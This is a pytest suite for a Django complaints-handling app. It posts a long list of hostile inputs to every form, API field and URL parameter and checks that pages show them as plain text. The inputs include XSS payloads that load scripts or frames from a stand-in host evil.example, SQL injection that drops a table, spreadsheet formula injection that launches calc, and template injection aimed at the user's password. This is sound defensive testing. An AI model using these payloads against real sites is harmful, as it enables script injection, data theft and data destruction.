"""Hostile words in every field of every form and of the programs' door: shown as words, and nothing breaks."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.utils.safestring import mark_safe

from amends.cases.models import Case, Contact
from amends.clock import now
from amends.desk.shapes import Words
from amends.people.scope import every_brand
from tests.conftest import is_postgres, signed_in
from tests.desk.forms import ACT_FORMS, lead_there
from tests.desk.pages import Page, read
from tests.desk.world import World, api_post, whole_case

MARKUP = (
    "<script>evil()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=evil()>",
    "<svg/onload=evil()>",
    "<svg><script>evil()</script></svg>",
    "<math><mtext><script>evil()</script></mtext></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<a href='javascript:evil()'>evil</a>",
    "<a href='java\tscript:evil()'>evil</a>",
    "<video><source onerror=evil()></video>",
    "<details open ontoggle=evil()>",
    "<x-evil onpointerover=evil()>",
    "<p hx-get=//evil.example hx-trigger=load>evil</p>",
    "<template><script>evil()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
    "<!--><script>evil()</script-->",
    "<![CDATA[<script>evil()</script>]]>",
    "</title><script>evil()</script>",
    "</textarea><script>evil()</script>",
    "</script><script>evil()</script>",
    "</style></option></select><script>evil()</script>",
    "＜script＞evil()＜/script＞",
)
QUOTES = (
    '" onmouseover="evil()" x="',
    "' onmouseover='evil()' x='",
    '"><script>evil()</script>',
    "'><script>evil()</script>",
    "` onmouseover=evil() `",
    '" autofocus onfocus=evil() "',
    '" style="background:url(//evil.example)" "',
    "&quot;&gt;&lt;script&gt;evil()&lt;/script&gt;",
    "&#x3c;script&#x3e;evil()&#x3c;/script&#x3e;",
    "\\u003cscript\\u003eevil()\\u003c/script\\u003e",
    "javascript:evil()",
    "data:text/html,<script>evil()</script>",
)
TEMPLATES = (
    "{{ 7777 * 7777 }}",
    "{% load evil %}{% include 'evil' %}",
    "{{ request.user.password }}",
    "{name} {0.__class__} {count!r}",
    "%(name)s %s %n %d",
    "${7777*7777} #{7777*7777} <%= 7777*7777 %>",
)
SIGNS = (
    "\u202egnp.evil\u202c",
    "\u2066\u2067\u2068evil",
    "\u200b\u200c\u200d\ufeff",
    "e" + "\u0301" * 500,
    "\ufdd0\uffff\U0010ffff",
    "👩‍👩‍👧‍👦" * 50,
    "a\x00b\x01c\x1b[31md\x7f",
    "line\u2028line\u2029line\x85line",
)
CELLS = ("=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "\t=1+1", "-2+3")
SQL = ("'; DROP TABLE cases_case; --", '" OR 1=1 --')
PAYLOADS = (*MARKUP, *QUOTES, *TEMPLATES, *SIGNS, *CELLS, *SQL)
NUMBERS = ("", " ", "-1", "²", "٣", "1e9", "9" * 30, "9" * 5_000, "0x10", "\x00", "None", "true")
LONG = "Words and more words. " * 9_500
assert len(PAYLOADS) >= 60
assert len(LONG) > 200_000

_ALLOWED_SCRIPT = re.compile(r"/static/|^$")
_URLS = ("href", "src", "action", "formaction", "data", "srcdoc", "poster", "hx-get", "hx-post", "background")


def check_page(page: Page, where: str) -> None:
    """Checks that a page holds no element, handler or address that came from somebody's words."""
    for element in page.elements:
        names = element.attributes
        assert "evil" not in element.tag, f"{where}: <{element.tag}>"
        handlers = [name for name in names if name.startswith("on") or "evil" in name]
        assert not handlers, f"{where}: <{element.tag} {handlers}>"
        assert element.tag not in ("iframe", "object", "embed", "base", "math", "style"), (
            f"{where}: <{element.tag}>"
        )
        assert "refresh" not in names.get("http-equiv", "").lower(), where
        assert "evil" not in names.get("style", ""), where
        if element.tag == "script":
            assert _ALLOWED_SCRIPT.search(names.get("src", "")), f"{where}: {names}"
            assert "nonce" in names or names.get("src", "").startswith("/static/") or "type" in names, where
        for name in _URLS:
            address = urlsplit(names.get(name, "").replace("\t", "").strip())
            assert address.netloc == "" or address.netloc == "localhost", f"{where}: {names[name]}"
            assert address.scheme in ("", "http", "https"), f"{where}: {names[name]}"


def check_text(text: str, where: str) -> None:
    """Checks that nothing was computed and no control sign got through."""
    assert "60481729" not in text, where
    assert "argon2" not in text and "pbkdf2" not in text, where
    assert "\x00" not in text and "\x1b" not in text, where


def look(client: Client, address: str, status: int = 200) -> None:
    """Checks one page."""
    response = client.get(address)
    assert response.status_code == status, f"{address}: {response.status_code}"
    text = response.content.decode()
    check_text(text, address)
    check_page(read(text), address)


def lists() -> list[str]:
    """Answers every page that shows many cases or customers."""
    return [
        "/",
        "/?view=nobody",
        "/customers/",
        "/search/?q=evil",
        "/search/?q=calc&pages=8",
        "/contacts/new/",
    ]


def pages_of(case: Case) -> list[str]:
    """Answers every page that shows one case."""
    found = [f"/cases/{case.uuid}/?history=1", f"/cases/{case.uuid}/record/", f"/skip/?case={case.uuid}"]
    return [*found, f"/customers/{case.customer.uuid}/"] if case.customer is not None else found


def say_to_the_door(world: World, payload: str) -> Case | None:
    """Says the payload in every field of words at the programs' door, and answers the case if one was opened."""
    names = ("gist", "want", "product", "issue", "external_reference")
    data = {"text": payload, **dict.fromkeys(names, payload[:80]), "customer": {"name": payload[:200]}}
    client = Client(HTTP_HOST="localhost")
    made = api_post(client, world.token, data, HTTP_IDEMPOTENCY_KEY=_header(payload))
    assert made.status_code in (201, 422), made.status_code
    if made.status_code == 422:
        return None
    with every_brand():
        return Case.objects.select_related("customer").get(uuid=made.json()["id"])


def _header(text: str) -> str:
    return text.encode("latin-1", "replace").decode("latin-1").replace("\n", " ").replace("\r", " ")


@pytest.mark.parametrize("part", range(4))
def test_words_from_a_program_are_words_on_every_page(world: World, part: int) -> None:
    cases = [case for payload in PAYLOADS[part::4] if (case := say_to_the_door(world, payload))]
    assert len(cases) >= len(PAYLOADS[part::4]) - 2
    client = signed_in(world.cast.rep)
    for number, case in enumerate(cases):
        # The page of the case always, and one of the others in turn.
        first, *others = pages_of(case)
        look(client, first)
        if number % 3 == 0:
            look(client, others[number // 3 % len(others)])
    for address in lists():
        look(client, address)


@pytest.mark.parametrize("name", ["email", "phone", "channel", "language", "occurred_at", "seriousness"])
def test_no_value_of_a_field_breaks_the_programs_door(world: World, name: str) -> None:
    client = Client(HTTP_HOST="localhost")
    for value in (*NUMBERS, *PAYLOADS[::3]):
        answer = api_post(client, world.token, {"text": "x", name: value, "customer": {name: value}})
        assert answer.status_code in (201, 422), f"{name} {value[:20]!r}"
    look(signed_in(world.cast.rep), "/customers/")


def test_what_was_said_is_kept_as_it_was_said(world: World) -> None:
    said = {
        payload: say_to_the_door(world, payload) for payload in (*MARKUP[:5], *QUOTES[:3], *TEMPLATES, *CELLS)
    }
    with every_brand():
        for payload, case in said.items():
            assert case is not None
            assert Contact.objects.get(case=case).text == payload.strip()


@pytest.mark.parametrize("name", ACT_FORMS)
def test_words_in_a_form_of_a_case_are_words_on_its_page(world: World, name: str) -> None:
    act = ACT_FORMS[name]
    lead_there(act, world.cast, world.own.case, now())
    client, address = signed_in(world.people[act.by]), f"/cases/{world.own.case.uuid}/{name}/"
    every = " ".join(PAYLOADS)
    texts = {field: every for field, value in act.form.items() if value == "" or " " in value}
    for form in ({**act.form, **texts}, dict.fromkeys(act.form, every[:2_000])):
        done = client.post(address, form)
        assert done.status_code in (302, 404, 422), done.status_code
        if done.status_code == 422:
            check_page(read(done.content.decode()), name)
    for page in pages_of(world.own.case)[:2]:
        look(client, page)


@pytest.mark.parametrize(
    ("first", "name"), enumerate(["add_fact", "add_point", "note", "add_tried", "heard"])
)
def test_each_payload_for_itself_is_shown_as_words(world: World, first: int, name: str) -> None:
    act, client = ACT_FORMS[name], signed_in(world.cast.rep)
    address = f"/cases/{world.own.case.uuid}/{name}/"
    for payload in PAYLOADS[first % 3 :: 3]:
        field = "value" if name == "add_fact" else "text"
        assert client.post(address, {**act.form, field: payload}).status_code in (302, 422)
    look(client, f"/cases/{world.own.case.uuid}/?history=1")


@pytest.mark.parametrize(("number", "name"), enumerate(ACT_FORMS))
def test_no_value_of_a_choice_or_a_number_breaks_an_act(world: World, number: int, name: str) -> None:
    act = ACT_FORMS[name]
    lead_there(act, world.cast, world.own.case, now())
    client, address = signed_in(world.people[act.by]), f"/cases/{world.own.case.uuid}/{name}/"
    fields = {**act.form, **dict.fromkeys(act.files, "")}
    for value in NUMBERS[number % 3 :: 3]:
        form = {**dict.fromkeys(fields, value), f"finding-{value[:40]}": "upheld"}
        status = client.post(address, form).status_code
        assert status in (302, 404, 422), f"{value[:20]!r}: {status}"


MOMENTS = (
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "2999-12-31T23:59",
    "2126-02-30T00:00",
    "2126-W01",
    "20270101",
    "2126-01-01T00:00+23:59",
)


@pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Pacific/Niue", "Europe/London"])
def test_no_moment_makes_a_case_unreadable(world: World, zone: str) -> None:
    world.cast.rep.zone = zone
    world.cast.rep.save()
    client = signed_in(world.cast.rep)
    for until in MOMENTS:
        form = {"waiting": "customer", "until": until, "reason": ""}
        assert client.post(f"/cases/{world.own.case.uuid}/wait/", form).status_code in (302, 422)
        look(client, f"/cases/{world.own.case.uuid}/")
        look(client, "/?view=waiting")


ADDRESSES = {
    "/": ("view", "brand", "stage", "language", "after"),
    "/search/": ("q", "pages", "open"),
    "/customers/": ("q",),
    "/skip/": ("case",),
    "/contacts/new/": ("brand",),
}


OTHER_FORMS = {
    "/preferences/": ("language", "zone", "theme", "letter_keys"),
    "/language/": ("language", "next"),
    "/skip/": ("case", "reason", "text"),
    "/skip/?case={case}": ("case", "reason", "text"),
    "/next/": ("case",),
    "/contacts/new/": ("kind", "brand", "channel", "text", "customer", "seriousness", "language"),
    "/cases/{case}/record/": ("product", "flags", "seen", "representative", "has_authority", "place"),
    "/customers/{customer}/merge/": ("other",),
    "/sign-in/": ("login", "password", "next"),
}


CONTACT = {"kind": "complaint", "brand": "norvia", "channel": "phone", "seriousness": "normal"}


@pytest.mark.parametrize("kind", ["complaint", "thanks"])
def test_words_of_a_contact_are_words_on_every_page(world: World, kind: str) -> None:
    client = signed_in(world.cast.rep)
    for payload in PAYLOADS[:: 2 if kind == "complaint" else 9]:
        typed = dict.fromkeys(("text", "gist", "name", "reached_at", "want", "language"), payload)
        done = client.post("/contacts/new/", {**CONTACT, "kind": kind, **typed})
        assert done.status_code in (200, 302, 422), payload
        if done.status_code != 302:
            check_page(read(done.content.decode()), payload)
    for address in ("/", "/customers/", "/search/?q=evil"):
        look(client, address)


@pytest.mark.parametrize("address", OTHER_FORMS)
def test_no_value_breaks_another_form(world: World, address: str) -> None:
    client = signed_in(world.cast.supervisor)
    where = address.format(case=world.own.case.uuid, customer=world.own.customer.uuid)
    for value in (*NUMBERS[::2], *PAYLOADS[::9], "\x00", "²"):
        status = client.post(where, dict.fromkeys(OTHER_FORMS[address], value)).status_code
        assert status < 500, f"{address} {value[:20]!r}: {status}"


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_value_breaks_an_address(world: World, address: str) -> None:
    client = signed_in(world.cast.rep)
    values = (*NUMBERS, *PAYLOADS[::9], *SIGNS[-2:], "\U0010ffff", "\ud7ff", "9" * 17 + ".1", "1.1", "1.²")
    for value in values:
        response = client.get(address, dict.fromkeys(ADDRESSES[address], value))
        assert response.status_code in (200, 302, 404), f"{address} {value[:20]!r}"
        if response.status_code == 200:
            check_page(read(response.content.decode()), f"{address} {value[:20]}")


@pytest.mark.parametrize(
    "raw", [b"q=%ED%A0%80", b"q=%FF%FE", b"q=%00", b"q=a&q=b&after=1.2", b"after=%E2%82%8D.1"]
)
def test_bytes_that_are_no_text_break_nothing(world: World, raw: bytes) -> None:
    client = signed_in(world.cast.rep)
    for path in ("/", "/search/", "/customers/"):
        assert client.get(f"{path}?{raw.decode()}").status_code == 200
    form = "application/x-www-form-urlencoded"
    address = f"/cases/{world.own.case.uuid}/note/"
    assert client.post(address, raw.replace(b"q=", b"text="), content_type=form).status_code in (302, 422)
    look(client, f"/cases/{world.own.case.uuid}/")


BODIES = (
    b"",
    b"null",
    b"[]",
    b'"x"',
    b"{",
    b"\xff\xfe",
    b'{"text": "\\ud800"}',
    b'{"text": 1}',
    b'{"text": NaN}',
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"text": "x", "seriousness": 1e400}',
)


@pytest.mark.parametrize("number", range(len(BODIES)))
def test_a_body_that_is_no_case_is_told_so(world: World, number: int) -> None:
    client = Client(HTTP_HOST="localhost")
    held = {"HTTP_AUTHORIZATION": f"Bearer {world.token}"}
    answer = client.post("/api/v1/cases", BODIES[number], content_type="application/json", **held)  # type: ignore[arg-type]
    assert answer.status_code in (400, 422)
    with every_brand():
        assert Case.objects.count() == 2


def test_a_text_that_is_too_long_is_refused_with_a_sentence_and_given_back(world: World) -> None:
    client = signed_in(world.cast.rep)
    for name in ("note", "reply", "heard"):
        done = client.post(f"/cases/{world.own.case.uuid}/{name}/", {**ACT_FORMS[name].form, "text": LONG})
        assert done.status_code == 422
        assert "too long" in done.content.decode()
    assert api_post(Client(HTTP_HOST="localhost"), world.token, {"text": LONG}).status_code == 422
    done = client.post("/contacts/new/", {**CONTACT, "text": LONG})
    assert done.status_code == 422
    assert done.content.decode().count("Words and more words.") >= 9_500


def test_a_long_text_that_still_fits_is_kept_whole_and_its_page_opens(world: World) -> None:
    text = LONG[:199_999].strip()
    made = api_post(Client(HTTP_HOST="localhost"), world.token, {"text": text})
    with every_brand():
        case = Case.objects.get(uuid=made.json()["id"])
        assert Contact.objects.get(case=case).text == text
    look(signed_in(world.cast.rep), f"/cases/{case.uuid}/")


def test_the_negative_control_words_taken_for_markup_are_caught(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    def trusting(text: str, language: str) -> Words:
        return Words(mark_safe(text))

    case = say_to_the_door(world, MARKUP[2])
    assert case is not None
    client = signed_in(world.cast.rep)
    look(client, f"/cases/{case.uuid}/")
    monkeypatch.setattr("amends.desk.conversation.said", trusting)
    with pytest.raises(AssertionError, match="onerror"):
        look(client, f"/cases/{case.uuid}/")


ONLY_BROWSERS = ("<!", "<noscript", "＜")
"""What only a browser takes for markup, or nobody."""


@pytest.mark.parametrize("payload", [payload for payload in MARKUP if not payload.startswith(ONLY_BROWSERS)])
def test_the_negative_control_each_payload_is_seen_when_it_is_let_through(payload: str) -> None:
    with pytest.raises(AssertionError):
        check_page(read(f"<p>{payload}</p>"), "here")


def test_a_name_that_looks_the_other_way_stays_in_its_own_line(world: World) -> None:
    whole = whole_case(world.cast.norvia, world.cast.rep, "\u202eevil", now())
    page = signed_in(world.cast.rep).get(f"/cases/{whole.case.uuid}/").content.decode()
    outside = re.sub(r"<(bdi|[a-z0-9]+[^>]* dir=\"auto\")[^>]*>.*?</", "", page, flags=re.DOTALL)
    assert "\u202eevil note" in page
    assert "\u202e" not in outside.partition("<main")[0].partition("</title>")[2]
    assert is_postgres() in (True, False)
